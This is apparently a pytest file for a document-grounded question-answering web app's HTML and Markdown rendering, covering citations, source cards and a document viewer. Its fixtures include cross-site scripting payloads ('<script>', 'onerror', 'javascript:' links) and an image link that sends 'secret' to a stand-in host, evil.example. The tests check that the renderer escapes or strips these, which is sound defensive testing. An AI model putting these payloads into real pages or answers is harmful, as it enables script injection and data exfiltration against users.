"""The web app's rendering (rag/app/ui.py): Markdown cleaned, markers linked, cards, sources, the document viewer,
positions and the short answer, all escaped; pure functions on answers built by hand."""
from __future__ import annotations

import html

from rag.app import ui
from rag.model import Answer, Citation, Document, Paragraph, Position


def make_answer(**kw) -> Answer:
    c1 = Citation(n=1, doc="d1", title="UPR <b>2018</b>", label="9(8)", page=3, section="Surveillance & <i>SCS</i>",
                  text="Respect citizens’ right to free internet access and dismantle the Great Firewall of China",
                  quote="dismantle the Great Firewall", kind="recommendation", date="2018", paragraph_id="d1:00025")
    c2 = Citation(n=2, doc="d2", title="Briefing", label="4", page=None, section=None,
                  text="At least 43 lawyers were penalised.", quote="At least 43 lawyers were penalised.",
                  date="2022", paragraph_id="d2:00003")
    base = dict(question="What about the <script>alert(1)</script> firewall?",
                answer="It says dismantle it [1]. Lawyers were penalised [2]. ![x](http://evil.example/?q=secret)",
                found=True, citations=[c1, c2])
    base.update(kw)
    return Answer(**base)


def paragraphs(n: int = 12, doc: str = "d1") -> list[Paragraph]:
    out = [Paragraph(id=f"{doc}:{i:05d}", doc_id=doc, ordinal=i, label=str(i + 1), kind="paragraph",
                     text=f"Paragraph number {i + 1} says <b>something</b> about topic {i + 1}.", page=1 + i // 5,
                     section="Intro")
           for i in range(n)]
    out[0].kind, out[0].label = "heading", "h1"
    out[3].kind, out[3].label = "footnote", "fn1"
    return out



def test_clean_markdown_strips_images_links_and_html():
    text = ('See ![pixel](http://evil.example/?q=secret) and [click](javascript:alert(1)) <img src=x onerror=alert(1)>'
            '<script>alert(2)</script> <!-- hidden --> ![ref][r]\n[r]: http://evil.example/x.png\nkeep [3] and a < b')
    out = ui.clean_markdown(text)
    assert "http://evil" not in out and "javascript:" not in out
    assert "<img" not in out and "<script" not in out and "hidden" not in out
    assert "pixel" in out and "click" in out and "[3]" in out and "a &lt; b" in out


def test_chat_markdown_links_markers_and_marks_not_found():
    answer = make_answer()
    out = ui.chat_markdown(answer, turn=4)
    assert "[\\[1\\]](#cite-4-1)" in out and "[\\[2\\]](#cite-4-2)" in out
    assert "evil.example" not in out
    refused = make_answer(found=False, citations=[], answer="The indexed documents do not answer this [7].")
    out = ui.chat_markdown(refused, turn=0)
    assert out.startswith('<span class="rag-notfound">Not in the documents</span>')
    assert "#cite" not in out  # a marker naming no citation stays plain text


def test_weak_evidence_banner_and_follow_up_options():
    weak = make_answer(weak_evidence=True, follow_ups=["What does the Briefing say about the firewall?"])
    out = ui.chat_markdown(weak, turn=0)
    assert out.startswith('<span class="rag-weak">The documents only touch on this: read the sources</span>')
    assert "rag-weak" not in ui.chat_markdown(make_answer(), turn=0)
    assert "rag-weak" not in ui.chat_markdown(make_answer(found=False, weak_evidence=True), turn=0)
    latest = ui.chat_message(weak, 0, latest=True)
    assert latest["role"] == "assistant" and latest["content"] == out
    assert latest["options"] == [{"label": "What does the Briefing say about the firewall?",
                                  "value": "What does the Briefing say about the firewall?"}]
    assert "options" not in ui.chat_message(weak, 0, latest=False)  # only the answer being read offers them
    assert "options" not in ui.chat_message(make_answer(), 0, latest=True)


def test_answer_markdown_keeps_the_sources_as_footnotes():
    answer = make_answer(weak_evidence=True)
    answer.citations[0].support, answer.citations[1].support = 1.0, 0.62
    md = ui.answer_markdown(answer)
    body, notes = md.split("\n\n[^1]:")
    assert body.startswith("> The documents only touch on this: read the sources.")
    assert "It says dismantle it [^1]. Lawyers were penalised [^2]." in body
    assert "evil.example" not in md and "<" not in md.replace("&lt;", "")
    assert notes.startswith(" *UPR 2018 (2018)*, ¶9(8), p. 3 (quoted): “dismantle the Great Firewall”")
    assert "[^2]: *Briefing (2022)*, ¶4 (partial): “At least 43 lawyers were penalised.”" in md
    refused = ui.answer_markdown(make_answer(found=False, citations=[], answer="The documents do not say [3]."))
    assert refused.startswith("**Not in the documents.**") and "[^" not in refused


def test_render_turns_holds_each_answers_cards_and_markdown():
    first, second = make_answer(), make_answer(question="Second?", answer="Only this [1].")
    first.citations[0].support = 1.0
    out = ui.render_turns([first, second])
    assert out.count('class="rag-turn"') == 2 and 'data-turn="0"' in out and 'data-turn="1"' in out
    assert out.count('class="rag-card"') == 4 and 'data-n="2"' in out
    assert "“dismantle the Great Firewall”" in out and "¶9(8) · p. 3" in out and ">quoted<" in out
    assert "<b>" not in out and "<i>" not in out  # titles and sections from documents are escaped
    assert html.escape(ui.answer_markdown(first)) in out  # data-md: the Markdown, escaped in the attribute
    assert ui.render_turns([]) == '<div class="rag-turns"></div>'


def test_sources_show_support_in_words_and_copy_with_sources():
    answer = make_answer()
    answer.citations[0].support, answer.citations[1].support = 1.0, 0.8
    out = ui.render_sources(answer, turn=3)
    assert 'class="rag-support rag-support-quoted"' in out and ">close paraphrase<" in out
    assert 'class="rag-copy" data-copy-turn="3"' in out and "Copy with sources" in out
    answer.citations[1].support = 0.2
    assert ">partial<" in ui.render_sources(answer, turn=3)


def test_briefing_markers_link_to_their_citations():
    md = "Text [1] and [2]. Quote **[1]** and an unknown [9]."
    out = ui.link_briefing_markers(md, {1: (0, 2), 2: (1, 1)})
    assert out == ("Text [\\[1\\]](#cite-0-2) and [\\[2\\]](#cite-1-1). Quote **[\\[1\\]](#cite-0-2)** and an "
                   "unknown [9].")


def test_history_pairs_are_question_answer_tuples():
    answers = [make_answer(question=f"q{i}", answer=f"a{i}") for i in range(8)]
    assert ui.history_pairs(answers, limit=3) == [("q5", "a5"), ("q6", "a6"), ("q7", "a7")]


def test_render_sources_escapes_and_carries_turn_and_number():
    out = ui.render_sources(make_answer(), turn=2, active=1)
    assert "<b>" not in out and "<i>" not in out and "<script>" not in out
    assert "UPR 2018" in out and "¶9(8)" in out and "p. 3" in out and "(2018)" in out
    assert 'data-turn="2" data-n="1"' in out and 'data-turn="2" data-n="2"' in out
    assert "rag-active" in out and "Recommendation" in out
    assert "“dismantle the Great Firewall”" in out
    assert "Sources appear here" in ui.render_sources(None)
    assert "No passages" in ui.render_sources(make_answer(citations=[], found=False))


def test_render_document_shows_neighbours_and_marks_the_quote():
    ps = paragraphs(12)
    doc = Document(doc_id="d1", title="A <i>report</i>", sha256="x", format="text", paragraphs=12, date="2018")
    out = ui.render_document(ps, "d1:00006", "number 7 SAYS", context=2, document=doc)
    assert out.count('class="rag-para') + out.count("rag-doc-heading") == 5
    assert "<mark>number 7 says</mark>" in out  # case-insensitive match, original text kept
    assert "rag-focus" in out and "A report (2018)" in out and "<i>" not in out
    assert "&lt;b&gt;something&lt;/b&gt;" in out and "<b>" not in out
    assert "paragraphs above" in out and "paragraphs below" in out
    assert "fn1" not in out  # footnotes are left out of the window
    whole = ui.render_document(ps, "d1:00006", None, context=None)
    assert whole.count('class="rag-para') == 11 and "<mark>" not in whole
    assert "no longer in the library" in ui.render_document([], "x", None)


def test_highlight_tolerates_whitespace_and_escapes():
    text = "Alpha <beta> gamma\n delta. Epsilon."
    assert ui.highlight(text, "gamma delta.") == "Alpha &lt;beta&gt; <mark>gamma\n delta.</mark> Epsilon."
    assert ui.highlight(text, "not there") == html.escape(text)


def test_render_positions_one_column_per_holder():
    answer = make_answer(disagreement=True, positions=[
        Position(holder="UPR 2018; Another <b>holder</b>", summary="Critical view [1].", citations=[1],
                 date="2018", stance="undermines", says="says the policy is not fair"),
        Position(holder="Briefing 2022", summary="Supportive view [13].", citations=[2], date="2022",
                 stance="supports", says="says the policy is fair")])
    out = ui.render_positions(answer, turn=1)
    assert out.count('class="rag-position"') == 2
    assert "Another holder" in out and "<b>" not in out
    assert 'data-turn="1" data-n="1"' in out and 'data-turn="1" data-n="2"' in out
    assert "[13]" not in out  # a summary marker that names no citation of the answer is dropped
    assert "Says the policy is not fair" in out and "rag-stance-undermines" in out and "disagree" in out
    assert ui.render_positions(make_answer()) == ""
    agreeing = make_answer(positions=answer.positions)
    assert "What each source says" in ui.render_positions(agreeing) and "disagree" not in ui.render_positions(agreeing)


def test_the_short_answer_comes_first_and_is_set_in_bold_in_its_sentence():
    answer = make_answer(answer="At least 43 lawyers were penalised [2].", short_answer={"text": "43", "citation": 2})
    out = ui.chat_markdown(answer, turn=0)
    assert out.startswith("**43** [\\[2\\]](#cite-0-2)")
    assert "At least **43** lawyers" in out
    assert ui.answer_markdown(answer).startswith("**43** [^2]")
    sources = ui.render_sources(answer)
    assert '<strong class="rag-value">43</strong>' in sources
    # in the document viewer: the value inside the highlighted sentence
    text = "The report says: At least 43 lawyers were penalised. Others fled."
    assert ui.highlight(text, "At least 43 lawyers were penalised.", "43") == (
        'The report says: <mark>At least <strong class="rag-value">43</strong> lawyers were penalised.</mark> '
        "Others fled.")
    # no short answer: nothing added
    assert not ui.chat_markdown(make_answer(), 0).startswith("**")
